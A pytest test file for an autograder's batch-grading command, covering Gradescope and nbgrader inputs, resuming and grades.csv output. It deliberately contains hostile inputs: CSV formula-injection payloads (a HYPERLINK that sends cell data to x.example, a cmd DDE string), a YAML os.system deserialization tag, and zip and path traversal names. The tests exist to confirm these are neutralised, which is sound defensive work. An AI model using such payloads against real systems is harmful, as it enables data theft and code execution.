"""`autograder batch`: inputs (folders, zips, a Gradescope export, nbgrader's submitted/), the same
results as `grade` alone, resuming, grades.csv, and nothing stopping the class."""
from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import pytest

from autograder.engine.fingerprint import fingerprint, submission_hash
from autograder.intake.batch_inputs import Person, Submission, collect, distinct, read_metadata, safe_id
from autograder.outputs.progress import Progress
from autograder.platforms import safe_grade
from autograder.platforms.batch import Row, cell, grades_csv, run_batch, up_to_date
from autograder.platforms.cli import main
from tests.bug_bank import build_submission, load_bugs

ROOT = Path(__file__).resolve().parents[1]
SOLUTION, BUGGY, STUBS = ROOT / "reference" / "rnn_bptt" / "solution", \
    ROOT / "reference" / "rnn_bptt" / "samples" / "buggy", \
    ROOT / "assignments" / "rnn_bptt"
EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"

# What Gradescope's "Export Submissions" writes: Ruby symbols as keys, Ruby tags on some values.
METADATA = f"""---
submission_1001:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1815'
    :email: ada@example.edu
  - :name: '{EVIL}'
    :sid: '-42'
    :email: "@mallory"
  :created_at: 2025-03-01 10:15:42.123456000 -08:00
  :score: !ruby/object:BigDecimal 18:0.1e3
  :status: processed
submission_1002:
  :submitters:
  - :name: Carol Chen
    :sid: '3'
    :email: carol@example.edu
  :created_at: 2025-03-01 11:00:00.000000000 -08:00
submission_1003:
  :submitters:
  - :name: Bob Brown
    :sid: '2'
    :email: bob@example.edu
submission_1009:
  :submitters:
  - :name: Nobody
"""


def copy_solution_files(src: Path, dest: Path) -> Path:
    dest.mkdir(parents=True, exist_ok=True)
    for f in sorted(src.glob("*.py")):
        if not f.name.startswith("test_"):
            shutil.copyfile(f, dest / f.name)
    return dest


def make_export_zip(path: Path) -> Path:
    """A small Gradescope export: a group (reference), a zip upload (stubs), the buggy sample."""
    with zipfile.ZipFile(path, "w") as zf:
        top = "assignment_77_export/"
        zf.writestr(top + "submission_metadata.yml", METADATA)
        for sub, src in (("submission_1001", SOLUTION), ("submission_1003", BUGGY)):
            for f in sorted(src.glob("*.py")):
                if not f.name.startswith("test_"):
                    zf.writestr(f"{top}{sub}/{f.name}", f.read_bytes())
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w") as hw:
            for f in sorted(STUBS.glob("*.py")):
                if not f.name.startswith("test_"):
                    hw.writestr(f"hw/{f.name}", f.read_bytes())
        zf.writestr(f"{top}submission_1002/hw.zip", inner.getvalue())
        zf.writestr(f"{top}submission_1002/../../escape.py", "x = 1\n")      # never written outside
    return path


def strip_timing(data: dict) -> dict:
    return {k: v for k, v in data.items() if k != "execution_time"}


@pytest.fixture(scope="module")
def export_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("export")
    export = make_export_zip(base / "export.zip")
    out = base / "out"
    log = io.StringIO()
    result = run_batch([], out, jobs=2, progress=Progress(log), exports=[export])
    return {"base": base, "export": export, "out": out, "result": result, "log": log.getvalue(),
            "csv": (out / "grades.csv").read_bytes()}


def test_gradescope_export_is_graded_per_submission_with_one_row_per_submitter(export_run):
    out, result = export_run["out"], export_run["result"]
    assert sorted(p.name for p in out.iterdir() if p.is_dir()) == ["similarity", "submission_1001", "submission_1002",
                                                                     "submission_1003"]
    scores = {sid: data["score"] for sid, data in result.results.items()}
    assert scores["submission_1001"] == 100 and scores["submission_1002"] == 0
    assert 0 < scores["submission_1003"] < 100
    assert "submission_1009" in " ".join(result.problems)          # listed in the YAML, no folder
    rows = list(csv.DictReader(io.StringIO(export_run["csv"].decode())))
    assert [(r["submission"], r["sid"]) for r in rows] == [
        ("submission_1001", "1815"), ("submission_1001", "'-42"), ("submission_1002", "3"), ("submission_1003", "2")]
    group = [r for r in rows if r["submission"] == "submission_1001"]
    assert group[0]["score"] == group[1]["score"] == "100"
    assert group[1]["name"] == "'" + EVIL and group[1]["email"] == "'@mallory"   # never a formula
    assert rows[3]["name"] == "Bob Brown" and rows[3]["rnn_backward"] != rows[3]["max_score"]
    assert float(rows[3]["score"]) == scores["submission_1003"]
    assert not (export_run["base"] / "escape.py").exists() and not list(out.rglob("escape.py"))
    for text in (export_run["log"], *(p.read_text() for p in out.rglob("results.json"))):
        assert "Ada" not in text and "ada@example.edu" not in text       # names only in grades.csv
    assert "Class report" in (out / "report.html").read_text(encoding="utf-8")
    assert "[3/3]" in export_run["log"]


def test_batch_gives_the_same_results_as_grade_alone(export_run, tmp_path):
    with zipfile.ZipFile(export_run["export"]) as zf:
        zf.extractall(tmp_path, members=[n for n in zf.namelist() if ".." not in n])
    root = tmp_path / "assignment_77_export"
    for sid in ("submission_1001", "submission_1002", "submission_1003"):
        assert main(["grade", str(root / sid), "--results", str(tmp_path / f"{sid}.json"), "--quiet"]) == 0
        alone = json.loads((tmp_path / f"{sid}.json").read_text())
        batched = json.loads((export_run["out"] / sid / "results.json").read_text())
        assert strip_timing(alone) == strip_timing(batched), sid
        assert json.dumps(strip_timing(alone)) == json.dumps(strip_timing(batched))


def test_a_second_run_skips_everything_and_writes_the_same_grades_csv(export_run):
    out = export_run["out"]
    before = {p: p.stat().st_mtime_ns for p in out.rglob("results.json")}
    result = run_batch([], out, jobs=2, progress=Progress(io.StringIO()), exports=[export_run["export"]])
    assert (result.graded, result.skipped, result.failures) == (0, 3, 0)
    assert {p: p.stat().st_mtime_ns for p in out.rglob("results.json")} == before
    assert (out / "grades.csv").read_bytes() == export_run["csv"]


def test_resume_grades_only_what_changed_and_force_grades_all(tmp_path):
    cls = tmp_path / "class"
    copy_solution_files(SOLUTION, cls / "alice")
    copy_solution_files(STUBS, cls / "carol")
    out = tmp_path / "out"
    first = run_batch([cls], out, jobs=2, progress=Progress(io.StringIO()))
    assert (first.graded, first.skipped) == (2, 0)
    csv_before = (out / "grades.csv").read_bytes()
    (cls / "carol" / "activations.py").write_text((SOLUTION / "activations.py").read_text())
    stale = json.loads((out / "alice" / "results.json").read_text())
    stale["extra_data"]["grader_fingerprint"] = "an older grader"
    (out / "alice" / "results.json").write_text(json.dumps(stale))
    second = run_batch([cls], out, jobs=2, progress=Progress(io.StringIO()))
    assert (second.graded, second.skipped) == (2, 0)        # carol changed, alice's grader changed
    assert second.results["carol"]["score"] > 0
    assert (out / "grades.csv").read_bytes() != csv_before
    third = run_batch([cls], out, jobs=2, progress=Progress(io.StringIO()))
    assert (third.graded, third.skipped) == (0, 2)
    forced = run_batch([cls], out, jobs=1, force=True, progress=Progress(io.StringIO()))
    assert (forced.graded, forced.skipped) == (2, 0)


def test_an_unwritable_output_folder_does_not_stop_the_class(tmp_path, capsys):
    cls = tmp_path / "class"
    copy_solution_files(SOLUTION, cls / "alice")
    copy_solution_files(STUBS, cls / "bob")
    broken = tmp_path / "class" / "zed"
    copy_solution_files(ROOT / "tests" / "broken" / "exceptions", broken)
    out = tmp_path / "out"
    out.mkdir()
    (out / "bob").write_text("a file where bob's folder should be")
    assert main(["batch", str(cls), "--out", str(out), "--jobs", "2"]) == 1
    printed = capsys.readouterr().out
    assert "1 failures" in printed and "could not write" in printed
    assert json.loads((out / "alice" / "results.json").read_text())["score"] == 100
    assert (out / "zed" / "results.json").is_file()
    rows = {r["submission"]: r for r in csv.DictReader((out / "grades.csv").open())}
    assert rows["bob"]["score"] == "0" and "could not write" in rows["bob"]["problem"]
    assert rows["alice"]["problem"] == ""


def test_nbgrader_submitted_tree(tmp_path):
    course = tmp_path / "course"
    copy_solution_files(SOLUTION, course / "submitted" / "alice" / "rnn_bptt")
    copy_solution_files(BUGGY, course / "submitted" / "bob" / "other_assignment")
    (course / "source").mkdir()
    found = collect([], tmp_path / "scratch", courses=[course])
    assert [(s.id, s.path, s.people) for s in found.submissions] == [
        ("alice", course / "submitted" / "alice" / "rnn_bptt", (Person(sid="alice"),))]
    assert any("bob" in p and "rnn_bptt" in p for p in found.problems)
    assert [s.id for s in collect([], tmp_path / "s2", courses=[course / "submitted"]).submissions] == ["alice"]
    assert collect([], tmp_path / "s3", assignment="other_assignment", courses=[course]).submissions[0].id == "bob"
    out = tmp_path / "out"
    assert main(["batch", "--nbgrader", str(course), "--output", str(out), "--jobs", "1"]) == 0
    assert json.loads((out / "alice" / "results.json").read_text())["score"] == 100
    assert next(csv.DictReader((out / "grades.csv").open()))["sid"] == "alice"


def test_inputs_folders_zips_and_export_folders(tmp_path):
    export = tmp_path / "export"
    with zipfile.ZipFile(make_export_zip(tmp_path / "e.zip")) as zf:
        zf.extractall(export, members=[n for n in zf.namelist() if ".." not in n])
    shutil.make_archive(str(tmp_path / "zipped"), "zip", SOLUTION)
    cls = tmp_path / "cls"
    copy_solution_files(SOLUTION, cls / "x y")
    copy_solution_files(SOLUTION, tmp_path / "other" / "x y")
    found = collect([tmp_path / "zipped.zip", cls, tmp_path / "other" / "x y", tmp_path / "nowhere"],
                    tmp_path / "scratch", exports=[export])
    ids = [s.id for s in found.submissions]
    assert ids == ["submission_1001", "submission_1002", "submission_1003", "zipped", "cls__x_y", "other__x_y"]
    assert found.submissions[0].people[1].name == EVIL
    assert any("nowhere" in p and "does not exist" in p for p in found.problems)


def export_variants(tmp_path: Path) -> dict[str, Path]:
    """The same export as a zip and a folder, each with the metadata at its top or in a wrapper folder."""
    wrapped_zip = make_export_zip(tmp_path / "wrapped.zip")
    wrapped = tmp_path / "wrapped"
    with zipfile.ZipFile(wrapped_zip) as zf:
        zf.extractall(wrapped, members=[n for n in zf.namelist() if ".." not in n])
    top = wrapped / "assignment_77_export"
    top_zip = Path(shutil.make_archive(str(tmp_path / "top"), "zip", top))
    return {"zip, wrapper folder": wrapped_zip, "zip, top": top_zip, "folder, wrapper folder": wrapped,
            "folder, top": top}


def test_export_is_read_only_with_export_as_a_zip_or_a_folder_top_level_or_wrapped(tmp_path):
    variants = export_variants(tmp_path)
    for n, (what, path) in enumerate(variants.items()):
        found = collect([], tmp_path / f"scratch{n}", exports=[path])
        assert [s.id for s in found.submissions] == ["submission_1001", "submission_1002", "submission_1003"], what
        assert [p.sid for p in found.submissions[0].people] == ["1815", "-42"], what
        assert found.submissions[2].people == (Person("Bob Brown", "bob@example.edu", "2"),), what
        assert [i.summary() for i in found.inputs] == [f"--export {path} (Gradescope export): 3 submissions"], what
        assert not found.warnings, what
        assert any("submission_1009" in p for p in found.problems), what       # listed, no folder: reported
        plain = collect([path], tmp_path / f"plain{n}")                          # without --export: names no one
        assert all(not s.people for s in plain.submissions), what
        assert any("ignored" in w or "--export" in w for w in plain.warnings), (what, plain.warnings)


def test_export_that_is_no_export_is_reported_and_not_graded(tmp_path):
    cls = tmp_path / "cls"
    copy_solution_files(SOLUTION, cls / "alice")
    two = tmp_path / "two"
    for wrapper in ("a", "b"):
        (two / wrapper).mkdir(parents=True)
        (two / wrapper / "submission_metadata.yml").write_text(METADATA)
    shutil.make_archive(str(tmp_path / "cls"), "zip", cls)
    found = collect([], tmp_path / "scratch", exports=[cls, two, tmp_path / "cls.zip", tmp_path / "nowhere"])
    assert found.submissions == []
    text = "\n".join(found.problems)
    assert f"--export {cls}: not graded: it has no submission_metadata.yml" in text
    assert f"--export {two}: not graded: 2 of its folders hold a submission_metadata.yml" in text
    assert f"--export {tmp_path / 'cls.zip'}: not graded: it has no submission_metadata.yml" in text
    assert f"--export {tmp_path / 'nowhere'}: not graded: it does not exist" in text
    assert [i.submissions for i in found.inputs] == [0, 0, 0, 0]


def test_each_input_says_how_many_submissions_it_yielded(tmp_path, capsys):
    cls = tmp_path / "cls"
    copy_solution_files(STUBS, cls / "alice")
    (cls / "empty").mkdir()
    (tmp_path / "nothing").mkdir()
    (tmp_path / "nothing" / ".hidden").mkdir()
    export = tmp_path / "export"
    copy_solution_files(STUBS, export / "submission_1")
    copy_solution_files(STUBS, export / "not_a_submission")
    (export / "submission_metadata.yml").write_text("submission_1:\n  :submitters:\n  - :name: Ann\n    :sid: 7\n")
    found = collect([cls, cls / "alice", tmp_path / "nothing"], tmp_path / "scratch", exports=[export])
    assert [i.summary() for i in found.inputs] == [
        f"--export {export} (Gradescope export): 1 submission of 2 folders",
        f"{cls} (class folder): 2 submissions",
        f"{cls / 'alice'} (submission): 0 submissions of 1 folder",
        f"{tmp_path / 'nothing'} (submission): 1 submission"]
    assert any("not_a_submission/ is not a submission_<id>/ folder" in p for p in found.problems)
    assert any(p.startswith(f"{cls / 'alice'}: 1 of its submissions were given by an earlier input") for p in
               found.problems)
    assert found.submissions[0].people == (Person("Ann", "", "7"),)
    out = tmp_path / "out"
    assert main(["batch", str(cls), "--export", str(export), "--output", str(out), "--jobs", "2"]) == 0
    printed = capsys.readouterr().out
    assert f"Inputs:\n  --export {export} (Gradescope export): 1 submission of 2 folders\n  {cls} (class folder): " \
           "2 submissions\n" in printed
    assert main(["batch", "--output", str(out)]) == 2
    copy_solution_files(STUBS, tmp_path / "flat" / "a")
    copy_solution_files(STUBS, tmp_path / "flat" / "b")
    (tmp_path / "flat" / "notes.py").write_text("x = 1\n")
    flat = collect([tmp_path / "flat"], tmp_path / "scratch2")
    assert [s.id for s in flat.submissions] == ["flat"]
    assert any("graded as one submission; its 2 sub-folders with such files (a, b)" in w for w in flat.warnings)


def test_hostile_metadata_yaml_never_breaks_the_batch_or_names_anyone_wrongly(tmp_path, monkeypatch):
    from autograder.intake import batch_inputs

    export = tmp_path / "export"
    copy_solution_files(STUBS, export / "submission_1")
    copy_solution_files(STUBS, export / "submission_2")
    meta = export / "submission_metadata.yml"
    cases = {
        "not a mapping": "just a string\n",
        "deep": "x: " + "[" * 5000 + "]" * 5000 + "\n",
        "unhashable key": "? [a, b]\n: 1\n",
        "python tag": "submission_1: !!python/object/apply:os.system ['true']\n",
        "bad utf-8": b"submission_1:\n  :submitters:\n  - :name: \xff\xfe\n",
        "huge int": "submission_1:\n  :submitters:\n  - :sid: " + "9" * 5000 + "\n",
    }
    for what, text in cases.items():
        meta.write_bytes(text if isinstance(text, bytes) else text.encode())
        found = collect([], tmp_path / "scratch", exports=[export])
        assert [s.id for s in found.submissions] == ["submission_1", "submission_2"], what    # still graded
        assert all(s.people in ((), (Person("\ufffd\ufffd"),)) for s in found.submissions), (what, found.submissions)
    odd = """
submission_1:
  :submitters:
  - :name: "Eve\\nEvil\\t\\x1b[31m  spaced  "
    :sid: 12
    :email: [a, list]
  - :name: {a: mapping}
    :sid: true
  - just a string
  - :name: LONG_NAME
submission_2: &big
  :submitters: &many [MANY]
7: *big
yes: *big
2025-01-01: *big
""".replace("LONG_NAME", "N" * 5000).replace("MANY", ", ".join(["{':name': x}"] * 300))
    meta.write_text(odd)
    people, problem = read_metadata(meta, ["submission_1", "submission_2", "submission_3"])
    assert problem is None and set(people) == {"submission_1", "submission_2"}
    assert people["submission_1"][0] == Person("Eve Evil [31m spaced", "", "12")
    assert people["submission_1"][1] == Person("N" * batch_inputs.MAX_FIELD_CHARS, "", "")
    assert len(people["submission_1"]) == 2                              # non-mappings and empties dropped
    assert len(people["submission_2"]) == batch_inputs.MAX_SUBMITTERS
    assert set(read_metadata(meta)[0]) == {"submission_1", "submission_2", "7"}   # no bool or date keys
    monkeypatch.setattr(batch_inputs, "METADATA_MAX_BYTES", 1000)
    found = collect([], tmp_path / "scratch", exports=[export])
    assert [s.people for s in found.submissions] == [(), ()]
    assert any("larger than" in p and "left out" in p for p in found.problems)


def test_metadata_is_read_safely(tmp_path):
    path = tmp_path / "submission_metadata.yml"
    marker = tmp_path / "ran"
    path.write_text(f"submission_1:\n  :submitters:\n  - :name: !!python/object/apply:os.system ['touch {marker}']\n")
    people, problem = read_metadata(path)
    assert people == {} and "could not be read" in problem and not marker.exists()
    path.write_text("- just\n- a list\n")
    assert "not a mapping" in read_metadata(path)[1]


def test_ids_are_safe_and_distinct():
    assert safe_id("../../etc/passwd") == "etc_passwd"
    assert safe_id("Zoë O'Brien") == "Zo_O_Brien"
    assert safe_id("...") == "submission"
    assert distinct(["a", "A", "a", "grades.csv"]) == ["a", "A-2", "a-3", "grades.csv-2"]


def test_csv_cells_never_become_formulas():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx"):
        assert cell(text).startswith("'")
    assert cell("Ada") == "Ada"
    row = Row(Submission("s1", Path("."), (Person("=cmd|' /C calc'!A0", "a@b", "1"),)), None, "")
    text = grades_csv([row])
    assert "'=cmd" in text and text == grades_csv([row])


def test_an_internal_error_gives_a_valid_report_that_is_graded_again(monkeypatch, tmp_path):
    def broken(*_args, **_kwargs):
        raise RuntimeError("the grader broke")

    monkeypatch.setattr(safe_grade, "grade_submission", broken)
    graded, problem = safe_grade.grade_and_save(SOLUTION, tmp_path / "r.json")
    assert problem is None and "the grader broke" in graded.internal_error
    data = json.loads((tmp_path / "r.json").read_text())
    assert data["score"] == 0 and data["extra_data"]["internal_error"] is True
    assert up_to_date(tmp_path / "r.json", fingerprint(), submission_hash(SOLUTION)) is None


def test_fingerprint_depends_on_the_secret_without_revealing_it():
    assert fingerprint() == fingerprint() != fingerprint(b"course secret") != fingerprint(b"other secret")
    assert b"course secret".hex() not in fingerprint(b"course secret")
    from dataclasses import replace

    from autograder.assignment import load

    other = replace(load("rnn_bptt"), name="rnn_bptt_variant")
    assert fingerprint(assignment="rnn_bptt") != fingerprint(assignment=other)


def test_bug_bank_submission_in_a_class_folder(tmp_path):
    bug = load_bugs()[0]
    build_submission(bug, tmp_path / "cls" / "stud")
    result = run_batch([tmp_path / "cls"], tmp_path / "out", jobs=1, progress=Progress(io.StringIO()))
    assert result.failures == 0 and 0 < result.results["stud"]["score"] < 100


def test_ctrl_c_keeps_finished_results_and_the_next_run_continues(tmp_path):
    import os
    import signal
    import subprocess
    import sys

    cls = tmp_path / "class"
    for name in ("a", "b", "c", "d", "e"):
        copy_solution_files(STUBS if name in "bd" else SOLUTION, cls / name)
    out = tmp_path / "out"
    command = [sys.executable, "-m", "autograder", "batch", str(cls), "--output", str(out), "--jobs", "1"]

    def as_from_a_shell():      # Ctrl-C as a terminal delivers it, whatever this test process inherited
        signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGINT])
        signal.signal(signal.SIGINT, signal.SIG_DFL)

    proc = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            env=dict(os.environ, PYTHONUNBUFFERED="1"), preexec_fn=as_from_a_shell)
    lines, held = [], []
    for line in proc.stdout:
        lines.append(line)
        if line.startswith("[1/5]"):
            try:        # for the message below: how the batch's process held SIGINT when it was sent
                held = [x for x in open(f"/proc/{proc.pid}/status").read().splitlines() if x.startswith("Sig")]
            except OSError as exc:
                held = [str(exc)]
            proc.send_signal(signal.SIGINT)
            break
    rest = proc.communicate(timeout=300)[0]
    assert proc.returncode == 130, " ".join(held) + "\n" + "".join(lines) + rest
    assert "interrupted" in rest and not (out / "grades.csv").exists()
    written = sorted(out.rglob("results.json"))
    assert 1 <= len(written) < 5
    for path in written:
        assert json.loads(path.read_text())["tests"]          # complete files only
    again = run_batch([cls], out, jobs=2, progress=Progress(io.StringIO()))
    assert (again.graded, again.skipped) == (5 - len(written), len(written))
    assert [r["score"] for r in csv.DictReader((out / "grades.csv").open())] == ["100", "0", "100", "0", "100"]


@pytest.mark.skipif(not __import__("importlib").util.find_spec("rich"), reason="rich (the reports extra) missing")
def test_the_progress_bar_shows_done_total_and_failures():
    stream = io.StringIO()
    with Progress(stream, fancy=True) as progress:
        progress.start(3, skipped=1)
        for sid, failed in (("a", False), ("b", True), ("c", False)):
            progress.advance(sid, "not graded [boom]" if failed else "100/100", failed)
    text = stream.getvalue()
    assert "3/3" in text and "1 failed" in text and "b: not graded [boom]" in text and "/s" in text
    plain = io.StringIO()
    with Progress(plain, fancy=False) as progress:
        progress.start(2)
        progress.advance("a", "100/100", False)
    assert plain.getvalue().startswith("[1/2] a: 100/100")
